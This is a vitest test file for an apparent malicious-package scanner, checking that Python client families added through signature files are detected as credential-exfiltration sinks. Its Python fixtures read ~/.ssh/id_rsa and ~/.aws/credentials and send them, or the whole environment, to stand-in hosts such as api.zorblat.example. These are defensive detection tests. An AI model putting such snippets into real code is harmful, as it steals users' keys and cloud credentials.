// Python API client families are data (signatures/sinks.yaml `endpoint`, `sends`, `sendMethods`):
// an entry added through a --signatures directory takes effect with no code change, and the
// client stays one of its family through the objects its methods and attributes give back.
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
import { ConfigurationError } from "../../src/core/errors.js";
import { evaluateFacts } from "../../src/rules/evaluate.js";
import { loadSignatures, type Signatures } from "../../src/rules/signatures.js";
import { dedent } from "../analyzers/python/helpers.js";

const base = loadSignatures();

function withSinks(python: string): Signatures {
  const dir = mkdtempSync(join(tmpdir(), "exfilscan-families-"));
  mkdirSync(join(dir, "rules"));
  writeFileSync(join(dir, "sinks.yaml"), `js: { modules: {}, globals: {} }\npython:\n${python}\nshellPrograms: {}\n`);
  return loadSignatures([dir]);
}

async function findings(code: string, signatures: Signatures): Promise<string[]> {
  const files = new Map([
    ["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')],
    ["pkg/__init__.py", Buffer.from(dedent(code))],
  ]);
  const facts = await analyzePythonPackage({ input: "test", files, bytes: 0, errors: [] }, signatures);
  return evaluateFacts(facts, { ecosystem: "pypi", name: "pkg", version: "1.0.0" }, signatures).map((f) => `${f.ruleId} ${f.severity} ${f.location.line}`);
}

const ZORBLAT = `  modules:
    zorblat: { Cloud: { channel: http, returns: client, endpoint: "https://api.zorblat.example", sends: { stash: data, stash_file: file } } }
  builtins: {}`;

describe("an added client family takes effect", () => {
  const sigs = withSinks(ZORBLAT);

  it("sends through objects the client's methods and attributes give back", async () => {
    const code = `
      import os, zorblat
      project = zorblat.Cloud("tok-123").project("p").meta.bucket("b")
      project.stash(open(os.path.expanduser("~/.ssh/id_rsa")).read())
    `;
    expect(await findings(code, base)).toEqual([]);
    expect(await findings(code, sigs)).toEqual(["credential-exfiltration critical 3"]);
  });

  it("a `file` send uploads the local file its first argument names", async () => {
    const code = `
      import os, zorblat
      zorblat.Cloud(token="tok-123").stash_file(os.path.expanduser("~/.aws/credentials"), "k")
    `;
    expect(await findings(code, base)).toEqual([]);
    expect(await findings(code, sigs)).toEqual(["credential-exfiltration critical 2"]);
  });

  it("the constructor's token authenticates the client; it is not what the sends carry", async () => {
    const code = `
      import os, zorblat
      cloud = zorblat.Cloud(os.environ["ZORBLAT_TOKEN"])
      cloud.project("p").stash("build finished")
      cloud.stash_file("dist/report.txt", "report")
    `;
    expect(await findings(code, sigs)).toEqual([]);
  });

  it("credential-named arguments of a method authenticate the client it gives back", async () => {
    const code = `
      import os, zorblat
      zorblat.Cloud().session(secret_key=os.environ["ZORBLAT_SECRET_KEY"]).stash("hello")
    `;
    expect(await findings(code, sigs)).toEqual([]);
    const copied = `
      import os, zorblat
      zorblat.Cloud().session(secret_key=os.environ["ZORBLAT_SECRET_KEY"]).stash(os.environ["ZORBLAT_SECRET_KEY"])
    `;
    expect(await findings(copied, sigs)).toEqual(["credential-exfiltration critical 2"]);
  });

  it("sendMethods: a method that transmits on clients with no family list", async () => {
    const legacy = withSinks("  modules:\n    zorblat: { Messenger: { channel: http, returns: client } }\n  builtins: {}\n  sendMethods: [deliver]");
    const plain = withSinks("  modules:\n    zorblat: { Messenger: { channel: http, returns: client } }\n  builtins: {}");
    // As requests-like clients' methods: the URL first, the body a keyword.
    const code = 'import os, zorblat\nm = zorblat.Messenger()\nm.deliver("https://c.example.invalid/", data=dict(os.environ))\n';
    expect(await findings(code, plain)).toEqual([]);
    expect(await findings(code, legacy)).toContain("credential-exfiltration critical 3");
  });

  it("endpoint with {token}: the constructor's token is in the URL the client talks to", async () => {
    const bot = withSinks('  modules:\n    zorblat: { Bot: { channel: http, returns: client, endpoint: "https://api.zorblat.example/bot{token}" } }\n  builtins: {}');
    const code = 'import os, zorblat\nzorblat.Bot("123:abc").send_message("1", os.environ["AWS_SECRET_ACCESS_KEY"])\n';
    expect(await findings(code, bot)).toEqual(["credential-exfiltration critical 2"]);
  });
});

describe("positionalLogin: the arguments after the peer log in", () => {
  it("a prompted password given to the constructor authenticates; without the entry it is data", async () => {
    const entry = (more: string) => withSinks(`  modules:\n    zorblat: { Link: { channel: ftp, returns: connection${more} } }\n  builtins: {}`);
    const code = 'import getpass, zorblat\nlink = zorblat.Link("files.example.org", "me", getpass.getpass("password: "))\nlink.storbinary("STOR notes.txt", open("notes.txt", "rb"))\n';
    expect((await findings(code, entry(", positionalLogin: true"))).filter((f) => f.startsWith("credential"))).toEqual([]);
    expect((await findings(code, entry(""))).some((f) => f.startsWith("credential-exfiltration"))).toBe(true);
  });
});

describe("a family entry no front-end can use is a load error at its line", () => {
  const loadError = (python: string): ConfigurationError => {
    try {
      withSinks(python);
    } catch (error) {
      return error as ConfigurationError;
    }
    throw new Error("loaded");
  };

  it("a send that is not a method name", () => {
    const error = loadError('  modules:\n    zorblat:\n      Cloud: { channel: http, returns: client, sends: { "stash it": data } }\n  builtins: {}');
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(/sinks\.yaml:5: python\.modules\.zorblat\.Cloud\b/);
  });

  it("a send role that is not data or file", () => {
    const error = loadError("  modules:\n    zorblat:\n      Cloud: { channel: http, returns: client, sends: { stash: body } }\n  builtins: {}");
    expect(error).toBeInstanceOf(ConfigurationError);
    expect(error.message).toMatch(/sinks\.yaml:5:/);
  });
});
